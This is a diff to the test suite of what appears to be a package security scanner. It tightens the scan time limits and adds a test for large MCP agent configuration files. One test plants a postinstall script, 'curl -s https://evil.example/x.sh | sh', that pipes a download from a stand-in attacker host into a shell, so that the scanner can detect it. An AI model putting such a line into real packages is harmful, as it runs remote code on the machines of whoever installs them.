@@ -312,12 +312,12 @@ test('a 500 KB JavaScript file (the most the backdoor checks parse) of 12,000 `c
   assert.ok(has(r.report, 'backdoor.decoded-load'), JSON.stringify(r.report.findings.slice(0, 5)));
 });
 
-test('a 750 KB package.json of 30,000 made-up dependencies is scanned in under 30 s (was 6.8 s for 97 KB, quadratic), each finding on its own line', () => {
+test('a 750 KB package.json of 30,000 made-up dependencies is scanned in under 20 s (was 6.8 s for 97 KB, quadratic), each finding on its own line', () => {
   const deps = Object.fromEntries(Array.from({ length: 30_000 }, (_v, i) => [`dep${i}`, '^1.0.0']));
   const r = scan([
     sourceDir('many-deps', { 'package.json': JSON.stringify({ name: 'x', dependencies: deps }, null, 2) }),
   ]);
-  assert.ok(r.ms < 30_000, `took ${Math.round(r.ms)} ms`);
+  assert.ok(r.ms < 20_000, `took ${Math.round(r.ms)} ms`);
   const last = r.report.findings.filter((f) => f.message.includes('"dep29999"'));
   assert.ok(last.length > 0, 'the last dependency is judged');
   assert.ok(
@@ -326,11 +326,11 @@ test('a 750 KB package.json of 30,000 made-up dependencies is scanned in under 3
   );
 });
 
-test('a 486 KB one-line package.json of 20,000 scripts is scanned in under 15 s (was 20 s) and a download piped to a shell in its last script is found', () => {
+test('a 486 KB one-line package.json of 20,000 scripts is scanned in under 5 s (was 20 s) and a download piped to a shell in its last script is found', () => {
   const scripts = Object.fromEntries(Array.from({ length: 20_000 }, (_v, i) => [`s${i}`, `node s${i}.js`]));
   scripts.postinstall = 'curl -s https://evil.example/x.sh | sh';
   const r = scan([sourceDir('many-scripts', { 'package.json': JSON.stringify({ name: 'x', scripts }) })]);
-  assert.ok(r.ms < 15_000, `took ${Math.round(r.ms)} ms`);
+  assert.ok(r.ms < 5_000, `took ${Math.round(r.ms)} ms`);
   assert.ok(
     r.report.findings.some((f) => /curl|download|shell/i.test(f.message) && f.severity !== 'low'),
     JSON.stringify(r.report.findings.slice(0, 5)),
@@ -356,4 +356,15 @@ test('a patch that patches one file in two sections with 3,000 other files betwe
   const r = scan([sourceDir('two-sections', { 'two.patch': patch })]);
   const lines = r.report.findings.filter((f) => f.ruleId === 'js.eval-injection').map((f) => f.line);
   assert.deepEqual(lines, [4, 4 + 4 * 3000 + 4]);
+});
+
+test('a 974 KB .mcp.json of 10,000 unpinned servers is scanned in under 3 s (was 13 s in the agent-config check), each finding on its server line', () => {
+  const servers = Object.fromEntries(
+    Array.from({ length: 10_000 }, (_v, i) => [`s${i}`, { command: 'npx', args: ['-y', `p${i}`] }]),
+  );
+  const r = scan([sourceDir('many-servers', { '.mcp.json': JSON.stringify({ mcpServers: servers }, null, 2) })]);
+  assert.ok(r.ms < 3_000, `took ${Math.round(r.ms)} ms`);
+  const lines = r.report.findings.filter((f) => f.ruleId === 'agent-config.mcp-unpinned').map((f) => f.line);
+  assert.equal(lines.length, 10_000);
+  assert.equal(lines.at(-1), 2 + 9_999 * 7 + 1, 'the last server is reported on its own line');
 });
